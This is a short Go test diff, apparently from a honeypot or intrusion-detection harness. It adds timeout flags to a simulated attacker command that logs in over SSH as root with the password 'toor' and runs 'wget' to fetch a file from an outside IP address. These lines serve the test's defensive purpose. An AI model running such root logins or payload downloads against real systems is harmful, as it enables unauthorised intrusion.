@@ -74,7 +74,7 @@ func caught(t *testing.T, s *stage) {
 	if out := s.ssh("root", "toor", linux, "id"); !strings.Contains(out, "uid=0(root)") {
 		t.Errorf("id: %q", out)
 	}
-	if out := s.ssh("root", "toor", linux, "uname -a; wget http://198.51.100.7/x"); !strings.Contains(out, "Linux") {
+	if out := s.ssh("root", "toor", linux, "uname -a; wget -T 2 -t 1 http://198.51.100.7/x"); !strings.Contains(out, "Linux") {
 		t.Errorf("uname -a: %q", out)
 	}
 	if out := s.attack("curl", "-s", "-i", "--max-time", "10", "http://"+web+"/"); !strings.Contains(out, "Server: nginx") {
